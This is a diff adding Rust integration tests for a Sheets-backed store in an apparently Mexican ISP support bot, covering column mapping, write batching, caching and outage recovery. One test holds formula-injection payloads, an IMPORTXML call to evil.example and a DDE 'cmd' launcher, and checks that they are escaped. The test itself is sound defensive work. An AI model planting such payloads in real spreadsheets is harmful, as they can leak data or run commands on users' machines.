@@ -1,0 +1,505 @@
+//! Reads, batched idempotent writes, outages and restarts of the Sheets store.
+
+use crate::fake::{FakeGoogle, Fault, Kind, Target, SPREADSHEET_ID};
+use redsol::settings::Settings;
+use redsol::sheets::SheetsStore;
+use redsol::store::sqlite::SqliteStore;
+use redsol_actors::model::{
+    Channel, ConversationKey, IncidentKind, NewIncident, NewProspect, Priority,
+};
+use redsol_actors::store::Store;
+use std::collections::HashMap;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+/// Headers in an order of staff's choosing, with a column of their own.
+const PROSPECT_HEADERS: &[&str] = &[
+    "Fecha",
+    "Notas",
+    "Canal",
+    "ID",
+    "Teléfono",
+    "Nombre",
+    "Plan",
+    "Zona",
+    "Precio",
+    "Estado",
+];
+const INCIDENT_HEADERS: &[&str] = &[
+    "Prioridad",
+    "ID",
+    "Técnico Asignado",
+    "Cliente",
+    "Descripción",
+    "Tipo",
+    "Zona",
+    "Teléfono",
+    "Estado",
+    "Fecha Creación",
+    "ID Cliente",
+    "Seguimiento",
+];
+
+fn seed(fake: &FakeGoogle) {
+    fake.set_tab(
+        "Clientes",
+        vec![
+            vec![
+                "Teléfono",
+                "ID Cliente",
+                "Nombre",
+                "Email",
+                "Zona",
+                "Plan",
+                "Precio",
+                "Estado",
+                "Fecha Alta",
+            ],
+            vec![
+                "4421110001",
+                "CLI-0001",
+                "Ana Ruiz",
+                "ana@x.mx",
+                "Norte",
+                "50 Mbps",
+                "$450",
+                "Activo",
+                "2024-01-05",
+            ],
+            vec![
+                "4421110002",
+                "CLI-0002",
+                "Beto Paz",
+                "beto@x.mx",
+                "Sur",
+                "100 Mbps",
+                "$600",
+                "Activo",
+                "2024-02-11",
+            ],
+            vec![
+                "4421110003",
+                "CLI-0003",
+                "Carla Gil",
+                "carla@x.mx",
+                "Centro",
+                "20 Mbps",
+                "$350",
+                "Suspendido",
+                "2024-03-20",
+            ],
+        ],
+    );
+    let mut incidents = vec![INCIDENT_HEADERS.to_vec()];
+    incidents.push(vec![
+        "Alta",
+        "INC-000041",
+        "Juan",
+        "Chuy",
+        "sin señal",
+        "Sin servicio",
+        "Norte",
+        "",
+        "En proceso",
+        "2025-01-01",
+        "",
+        "llamar",
+    ]);
+    fake.set_tab("Incidentes", incidents);
+    fake.set_tab("Prospectos", vec![PROSPECT_HEADERS.to_vec()]);
+}
+
+async fn open(fake: &FakeGoogle, dir: &Path, tune: impl FnOnce(&mut Settings)) -> SheetsStore {
+    let key = fake.write_service_account(dir);
+    let env: HashMap<String, String> = [
+        ("GOOGLE_SHEETS_ID", SPREADSHEET_ID.to_string()),
+        ("GOOGLE_APPLICATION_CREDENTIALS", key.display().to_string()),
+        ("SHEETS_API_URL", fake.base_url()),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_string(), v))
+    .collect();
+    let mut settings = Settings::load_from(&env).expect("settings");
+    settings.sheets_tuning.backoff_base_ms = 20;
+    settings.sheets_tuning.backoff_max_secs = 1;
+    settings.sheets_tuning.request_timeout_secs = 2;
+    tune(&mut settings);
+    let local = SqliteStore::open(&dir.join("data"), Vec::new).expect("sqlite");
+    SheetsStore::open(
+        settings.sheets.as_ref().expect("sheets configured"),
+        &settings.sheets_tuning,
+        local,
+    )
+    .await
+    .expect("the Sheets store opens")
+}
+
+fn prospect(user: &str, name: &str) -> NewProspect {
+    NewProspect {
+        name: name.to_string(),
+        phone: Some(format!("52144200{user}")),
+        zone: "Norte".into(),
+        plan_mbps: 50,
+        price: 450,
+        key: ConversationKey::new(Channel::WhatsApp, format!("52144200{user}")),
+    }
+}
+
+fn incident(description: &str) -> NewIncident {
+    NewIncident {
+        client_id: Some("CLI-0001".into()),
+        client_name: "Ana Ruiz".into(),
+        kind: IncidentKind::NoService,
+        description: description.into(),
+        priority: Priority::Alta,
+        zone: Some("Norte".into()),
+        phone: Some("4421110001".into()),
+        key: ConversationKey::new(Channel::Telegram, "777"),
+    }
+}
+
+/// Waits (bounded) until every queued row is in the sheet.
+async fn drained(store: &SheetsStore, within: Duration) {
+    let start = Instant::now();
+    loop {
+        let pending = store.rows_pending().await.expect("outbox");
+        if pending == 0 {
+            return;
+        }
+        assert!(
+            start.elapsed() < within,
+            "{pending} rows still queued after {within:?}"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+/// A tab's data rows as header → value maps.
+fn records(fake: &FakeGoogle, tab: &str) -> Vec<HashMap<String, String>> {
+    let rows = fake.tab(tab).expect("the tab exists");
+    let headers = rows[0].clone();
+    rows[1..]
+        .iter()
+        .map(|r| {
+            headers
+                .iter()
+                .enumerate()
+                .map(|(i, h)| (h.clone(), r.get(i).cloned().unwrap_or_default()))
+                .collect()
+        })
+        .collect()
+}
+
+fn ids(fake: &FakeGoogle, tab: &str) -> Vec<String> {
+    records(fake, tab)
+        .into_iter()
+        .map(|r| r["ID"].clone())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rows_land_under_their_headers_whatever_the_column_order() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), |_| {}).await;
+
+    let clients = store.clients().await.expect("clients");
+    assert_eq!(clients.len(), 3);
+    assert_eq!(
+        (
+            clients[1].id.as_str(),
+            clients[1].plan_mbps,
+            clients[1].price,
+            clients[1].phone.as_str()
+        ),
+        ("CLI-0002", 100, 600, "4421110002")
+    );
+
+    let p = store
+        .save_prospect(prospect("01", "Ana López"))
+        .await
+        .expect("saved");
+    let i = store
+        .create_incident(incident("no hay internet desde ayer"))
+        .await
+        .expect("saved");
+    assert_eq!(
+        i.id, "INC-000042",
+        "new IDs follow the largest in the sheet"
+    );
+    drained(&store, Duration::from_secs(20)).await;
+
+    let prospects = records(&fake, "Prospectos");
+    assert_eq!(prospects.len(), 1);
+    let row = &prospects[0];
+    for (header, value) in [
+        ("ID", p.id.as_str()),
+        ("Nombre", "Ana López"),
+        ("Teléfono", "5214420001"),
+        ("Zona", "Norte"),
+        ("Plan", "50 Mbps"),
+        ("Precio", "450"),
+        ("Canal", "whatsapp"),
+        ("Estado", "Nuevo"),
+        ("Notas", ""),
+    ] {
+        assert_eq!(row[header], value, "{header}");
+    }
+    assert_eq!(row["Fecha"], p.created_at);
+
+    let incidents = records(&fake, "Incidentes");
+    assert_eq!(incidents.len(), 2);
+    assert_eq!(
+        incidents[0]["Seguimiento"], "llamar",
+        "staff's own column is kept"
+    );
+    let row = &incidents[1];
+    for (header, value) in [
+        ("ID", "INC-000042"),
+        ("ID Cliente", "CLI-0001"),
+        ("Cliente", "Ana Ruiz"),
+        ("Tipo", IncidentKind::NoService.label_es()),
+        ("Descripción", "no hay internet desde ayer"),
+        ("Prioridad", "Alta"),
+        ("Estado", "Nuevo"),
+        ("Técnico Asignado", "Sin asignar"),
+        ("Seguimiento", ""),
+    ] {
+        assert_eq!(row[header], value, "{header}");
+    }
+
+    // Staff assign a technician in the sheet: the customer's status shows it.
+    fake.edit(|tabs| {
+        let tab = tabs.get_mut("Incidentes").expect("tab");
+        let last = tab.len() - 1;
+        tab[last][2] = "Pedro".into();
+        tab[last][8] = "En proceso".into();
+    });
+    store.expire_cache();
+    let mine = store
+        .incidents_for(&ConversationKey::new(Channel::Telegram, "777"))
+        .await
+        .expect("incidents");
+    assert_eq!(
+        (mine[0].technician.as_str(), mine[0].status.as_str()),
+        ("Pedro", "En proceso")
+    );
+    let open: HashMap<_, _> = store
+        .open_incidents_by_priority()
+        .await
+        .expect("counts")
+        .into_iter()
+        .collect();
+    assert_eq!(open[&Priority::Alta], 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_burst_of_500_registrations_lands_once_each_within_the_write_budget() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), |s| {
+        s.sheets_tuning.writes_per_minute = 60
+    })
+    .await;
+    let started = Instant::now();
+    let mut tasks = tokio::task::JoinSet::new();
+    for n in 0..500 {
+        let store = store.clone();
+        tasks.spawn(async move {
+            store
+                .save_prospect(prospect(&format!("{n:03}"), &format!("Cliente {n}")))
+                .await
+        });
+    }
+    while let Some(saved) = tasks.join_next().await {
+        saved.expect("task").expect("saved");
+    }
+    drained(&store, Duration::from_secs(60)).await;
+    let elapsed = started.elapsed();
+
+    let mut landed = ids(&fake, "Prospectos");
+    assert_eq!(landed.len(), 500);
+    landed.sort();
+    landed.dedup();
+    assert_eq!(landed.len(), 500, "no row twice");
+    let appends = fake.count(Kind::Append);
+    // 60 writes a minute: at most one append a second (plus the first, at once).
+    let allowed = 1 + elapsed.as_secs() as usize;
+    assert!(appends <= allowed, "{appends} appends in {elapsed:?}");
+    println!("500 registrations: {appends} append requests in {elapsed:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_append_applied_then_cut_off_is_not_written_twice() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), |_| {}).await;
+    fake.apply_then_drop_next_appends(1);
+    for n in 0..3 {
+        store
+            .save_prospect(prospect(&format!("{n}"), "Dora"))
+            .await
+            .expect("saved");
+    }
+    drained(&store, Duration::from_secs(20)).await;
+    let landed = ids(&fake, "Prospectos");
+    let mut unique = landed.clone();
+    unique.sort();
+    unique.dedup();
+    assert_eq!(landed.len(), 3, "{landed:?}");
+    assert_eq!(unique.len(), 3, "{landed:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formula_looking_text_arrives_as_plain_text() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), |_| {}).await;
+    let evil = "=IMPORTXML(\"http://evil.example\",\"//a\")";
+    store
+        .save_prospect(prospect("9", evil))
+        .await
+        .expect("saved");
+    store
+        .create_incident(incident("+cmd|' /C calc'!A0"))
+        .await
+        .expect("saved");
+    drained(&store, Duration::from_secs(20)).await;
+    assert_eq!(
+        records(&fake, "Prospectos")[0]["Nombre"],
+        format!("'{evil}")
+    );
+    assert_eq!(
+        records(&fake, "Incidentes")[1]["Descripción"],
+        "'+cmd|' /C calc'!A0"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hundred_lookups_after_the_ttl_cost_one_read() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), |_| {}).await;
+    store.clients().await.expect("clients");
+    let before = fake.count(Kind::Get);
+    store.expire_cache();
+    let mut tasks = tokio::task::JoinSet::new();
+    for _ in 0..100 {
+        let store = store.clone();
+        tasks.spawn(async move { store.clients().await.map(|c| c.len()) });
+    }
+    while let Some(n) = tasks.join_next().await {
+        assert_eq!(n.expect("task").expect("clients"), 3);
+    }
+    assert_eq!(fake.count(Kind::Get) - before, 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_missing_tab_or_column_is_named_at_start() {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    fake.edit(|tabs| {
+        let tab = tabs.get_mut("Clientes").expect("tab");
+        tab[0][0] = "Celular".into();
+    });
+    let dir = tempfile::tempdir().expect("tempdir");
+    let key = fake.write_service_account(dir.path());
+    let env: HashMap<String, String> = [
+        ("GOOGLE_SHEETS_ID", SPREADSHEET_ID.to_string()),
+        ("GOOGLE_APPLICATION_CREDENTIALS", key.display().to_string()),
+        ("SHEETS_API_URL", fake.base_url()),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_string(), v))
+    .collect();
+    let settings = Settings::load_from(&env).expect("settings");
+    let open = |dir: &Path| {
+        let local = SqliteStore::open(&dir.join("data"), Vec::new).expect("sqlite");
+        SheetsStore::open(
+            settings.sheets.as_ref().expect("sheets"),
+            &settings.sheets_tuning,
+            local,
+        )
+    };
+    let e = open(dir.path()).await.err().expect("refused");
+    let message = format!("{e:#}");
+    assert!(
+        message.contains("\"Clientes\"") && message.contains("\"Teléfono\""),
+        "{message}"
+    );
+
+    seed(&fake);
+    fake.remove_tab("Prospectos");
+    let dir2 = tempfile::tempdir().expect("tempdir");
+    let e = open(dir2.path()).await.err().expect("refused");
+    let message = format!("{e:#}");
+    assert!(
+        message.contains("\"Prospectos\"") && message.contains("Unable to parse range"),
+        "{message}"
+    );
+}
+
+#[test]
+fn sheets_down_then_back_loses_nothing_across_a_restart() {
+    let fake_rt = tokio::runtime::Runtime::new().expect("runtime");
+    let fake = fake_rt.block_on(async {
+        let fake = FakeGoogle::start().await;
+        seed(&fake);
+        fake
+    });
+    let dir = tempfile::tempdir().expect("tempdir");
+
+    // First run: Sheets goes down after start; the bot keeps reading from its copy and
+    // queues what it saves. Then the process stops (its runtime is dropped).
+    {
+        let rt = tokio::runtime::Runtime::new().expect("runtime");
+        rt.block_on(async {
+            let store = open(&fake, dir.path(), |_| {}).await;
+            assert_eq!(store.clients().await.expect("clients").len(), 3);
+            fake.inject(Target::AnySheets, Fault::Status(503), 100_000);
+            store.expire_cache();
+            assert_eq!(store.clients().await.expect("stale clients").len(), 3);
+            store
+                .save_prospect(prospect("1", "Eva"))
+                .await
+                .expect("saved while down");
+            store
+                .save_prospect(prospect("2", "Fer"))
+                .await
+                .expect("saved while down");
+            assert_eq!(store.rows_pending().await.expect("outbox"), 2);
+        });
+    }
+    assert!(ids(&fake, "Prospectos").is_empty());
+
+    // Second run, Sheets still down: it starts from the copy saved in SQLite.
+    let rt = tokio::runtime::Runtime::new().expect("runtime");
+    rt.block_on(async {
+        let store = open(&fake, dir.path(), |_| {}).await;
+        assert_eq!(
+            store
+                .clients()
+                .await
+                .expect("clients from the saved copy")
+                .len(),
+            3
+        );
+        assert_eq!(store.rows_pending().await.expect("outbox"), 2);
+        store
+            .save_prospect(prospect("3", "Gus"))
+            .await
+            .expect("saved");
+        // Sheets is back: the outbox drains, each row once.
+        fake.clear_faults();
+        drained(&store, Duration::from_secs(30)).await;
+    });
+    let mut landed = ids(&fake, "Prospectos");
+    landed.sort();
+    assert_eq!(landed, ["PRO-000001", "PRO-000002", "PRO-000003"]);
+    drop(fake_rt);
+}
